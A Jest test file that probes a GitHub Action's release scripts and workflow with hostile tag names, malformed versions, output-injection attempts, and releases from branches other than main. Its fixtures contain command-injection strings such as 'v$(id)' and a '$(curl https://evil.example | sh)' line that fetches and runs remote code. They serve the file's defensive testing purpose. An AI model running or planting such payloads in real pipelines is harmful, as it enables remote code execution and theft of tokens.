// Attacks on the release (scripts/release-notes.js, scripts/release-lib.js, the release workflow
// .github/workflows/release.yml): hostile tag names, odd versions, a CHANGELOG entry that tries to
// reach the workflow's outputs, moving v1 backwards, releasing a commit that is not on main.
// release-notes.js is the only check the release workflow makes before it publishes and moves
// the major tag, so it is run as the workflow runs it: in a scratch repository, with
// GITHUB_OUTPUT set.
import { execFileSync, spawnSync } from 'node:child_process'
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { parse as parseYaml } from 'yaml'
import { parseVersion, planTags, requireVersion } from '../../scripts/release-lib.js'
import { checkTag } from '../../scripts/release-notes.js'

let repo: string
const git = (...args: string[]): string =>
  execFileSync('git', args, {
    cwd: repo,
    encoding: 'utf8',
    env: {
      ...process.env,
      GIT_AUTHOR_NAME: 'a',
      GIT_AUTHOR_EMAIL: 'a@example.test',
      GIT_COMMITTER_NAME: 'a',
      GIT_COMMITTER_EMAIL: 'a@example.test'
    }
  }).trim()

const changelog = (version: string, notes: string): string => `# Changelog

## [Unreleased]

## [${version}] - 2026-12-01

${notes}

## [1.0.0] - 2026-11-25

- First release.

[${version}]: https://github.com/your-account/docs-agent-action/compare/v1.0.0...v${version}
[1.0.0]: https://github.com/your-account/docs-agent-action/releases/tag/v1.0.0
`

/** package.json, package-lock.json and CHANGELOG.md at `version`, committed. */
function commitVersion(version: string, notes = '- A change.'): void {
  writeFileSync(join(repo, 'package.json'), JSON.stringify({ name: 'x', version }, null, 2))
  writeFileSync(
    join(repo, 'package-lock.json'),
    JSON.stringify({ name: 'x', version, lockfileVersion: 3, packages: { '': { version } } })
  )
  writeFileSync(join(repo, 'CHANGELOG.md'), changelog(version, notes))
  git('add', '--all')
  git('commit', '--quiet', '--no-verify', '--message', `Release ${version}`)
}

/** release-notes.js as the workflow's "plan" step runs it: notes on stdout, outputs in a file. */
function releaseNotes(tag: string): {
  status: number | null
  stdout: string
  stderr: string
  outputs: string
} {
  const outputFile = join(repo, '..', `output-${Math.random().toString(36).slice(2)}`)
  writeFileSync(outputFile, '')
  const result = spawnSync(process.execPath, [join(repo, 'scripts/release-notes.js'), tag], {
    cwd: repo,
    encoding: 'utf8',
    env: { PATH: process.env.PATH ?? '', GITHUB_OUTPUT: outputFile }
  })
  return {
    status: result.status,
    stdout: result.stdout,
    stderr: result.stderr,
    outputs: readFileSync(outputFile, 'utf8')
  }
}

beforeAll(() => {
  const base = mkdtempSync(join(tmpdir(), 'attack-release-'))
  repo = join(base, 'repo')
  mkdirSync(join(repo, 'scripts'), { recursive: true })
  for (const file of ['scripts/release-notes.js', 'scripts/release-lib.js']) {
    copyFileSync(file, join(repo, file))
  }
  git('init', '--quiet', '--initial-branch=main')
  commitVersion('1.0.0', '- First release.')
  git('tag', '--annotate', '--message', 'v1.0.0', 'v1.0.0')
  git('tag', 'v1')
})
afterAll(() => rmSync(join(repo, '..'), { recursive: true, force: true }))

describe('hostile tag names (git allows ; $ ` quotes and %)', () => {
  it.each([
    'v1.0.0;id',
    'v$(id)',
    'v`id`',
    "v1.0.0'",
    'v1.0.0"',
    'v1.0.0%0Amove-major=true',
    'v1.0.0\n',
    'v1.0.0\nmove-major=true',
    'v01.0.0',
    '1.0.0',
    'v1.0',
    'v1.0.0.0',
    'v 1.0.0',
    'V1.0.0'
  ])('%j is no release tag: refused, no notes, no output', (tag) => {
    const result = releaseNotes(tag)
    expect(result.status).toBe(1)
    expect(result.stdout).toBe('')
    expect(result.outputs).toBe('')
    expect(result.stderr).toMatch(/is not a release tag/)
    expect(checkTag(tag, repo).errors.length).toBeGreaterThan(0)
  })

  it.each([
    ['1.0.0-rc.1+build', true],
    ['1.0.0+build.5', true],
    ['01.0.0', false],
    ['1.0.0-01', false],
    ['1.0.0-', false],
    ['1.0.0+', false],
    ['1.0.0\n', false],
    [' 1.0.0', false],
    ['1.0.0-rc.1+b\u0000', false],
    ['99999999999999999999.0.0', false]
  ])('version %j: semantic %s', (text, ok) => {
    expect(parseVersion(text) !== undefined).toBe(ok)
  })
})

describe('the outputs the workflow reads', () => {
  it('a CHANGELOG entry full of output syntax reaches the notes (stdout), never GITHUB_OUTPUT', () => {
    const notes = [
      '- move-major=true',
      'major-tag=v9<<EOF',
      '::set-output name=move-major::true',
      'EOF',
      '```',
      '$(curl https://evil.example | sh) `id` ${{ github.token }}',
      '```'
    ].join('\n')
    commitVersion('1.1.0-rc.1+build.7', notes)
    try {
      git('tag', 'v1.1.0-rc.1+build.7')
      const result = releaseNotes('v1.1.0-rc.1+build.7')
      expect(result.status).toBe(0)
      expect(result.stdout).toBe(`${notes}\n`)
      expect(result.outputs.split('\n')).toEqual([
        'version=1.1.0-rc.1+build.7',
        'major-tag=v1',
        'move-major=false',
        'prerelease=true',
        'latest=false',
        ''
      ])
    } finally {
      git('tag', '--delete', 'v1.1.0-rc.1+build.7')
      git('reset', '--quiet', '--hard', 'HEAD~1')
    }
  })
})

describe('the major tag', () => {
  const plan = (version: string, tags: string[]) => planTags(requireVersion(version), tags)

  it.each([
    ['a fix of an older line', '1.1.1', ['v1.0.0', 'v1.2.0', 'v1.1.0', 'v1']],
    ['a pre-release', '1.3.0-rc.1', ['v1.0.0', 'v1.2.0', 'v1']],
    ['a re-run of an old release', '1.0.0', ['v1.0.0', 'v1.2.0', 'v1']],
    ['10 < 9 as text', '1.9.0', ['v1.10.0', 'v1.9.0', 'v1']]
  ])('never moves backwards: %s', (_name, version, tags) => {
    expect(plan(version, tags).moveMajor).toBe(false)
  })

  it('v1.2.0+rebuild after v1.2.0 leaves v1 where it is', () => {
    // Build metadata does not count in the order (SemVer 11), so 1.2.0+rebuild is no newer than
    // 1.2.0, yet planTags only looks for a release that is strictly newer: v1 moves to whatever
    // commit the +rebuild tag names, and every @v1 user runs it as "1.2.0". The workflow's tag
    // filter (v[0-9]+.[0-9]+.[0-9]+*) starts a release for it; npm run release would refuse it
    // (not above the latest tag), the workflow does not.
    expect(plan('1.2.0+rebuild', ['v1.0.0', 'v1.2.0', 'v1.2.0+rebuild', 'v1']).moveMajor).toBe(
      false
    )
  })
})

describe('what the release workflow publishes', () => {
  it('a version tag on a commit that is not on main is refused, and v1 stays', () => {
    // A maintainer tags the commit of a feature branch (by hand, or with --any-branch) and
    // pushes the tag. The README says releases are made on main, and npm run release checks
    // the branch; the workflow (release.yml) only runs release-notes.js, which does not, and
    // the publish job then force-moves v1 to that commit for every @v1 user.
    git('switch', '--quiet', '--create', 'feature')
    try {
      commitVersion('1.4.0', '- Unreviewed change.')
      git('tag', 'v1.4.0')
      git('switch', '--quiet', 'main')
      git('switch', '--quiet', '--detach', 'v1.4.0') // the checkout the workflow makes
      const onMain = spawnSync('git', ['merge-base', '--is-ancestor', 'HEAD', 'main'], {
        cwd: repo
      })
      expect(onMain.status).not.toBe(0) // the commit is not on main
      const result = releaseNotes('v1.4.0')
      // Publishing must not happen from here: the check should fail, or at least not move v1.
      expect(result.status !== 0 || !result.outputs.includes('move-major=true')).toBe(true)
    } finally {
      git('switch', '--quiet', 'main')
      spawnSync('git', ['tag', '--delete', 'v1.4.0'], { cwd: repo })
      git('branch', '--quiet', '--delete', '--force', 'feature')
    }
  })

  it('the workflow passes the tag to its scripts through env: only, and only publish may write', () => {
    const workflow = parseYaml(readFileSync('.github/workflows/release.yml', 'utf8')) as {
      permissions: Record<string, string>
      jobs: Record<string, { permissions?: Record<string, string>; steps: { run?: string }[] }>
    }
    expect(workflow.permissions).toEqual({ contents: 'read' })
    for (const [name, job] of Object.entries(workflow.jobs)) {
      for (const step of job.steps) expect(step.run ?? '').not.toContain('${{')
      if (name !== 'publish') expect(job.permissions).toBeUndefined()
    }
  })
})
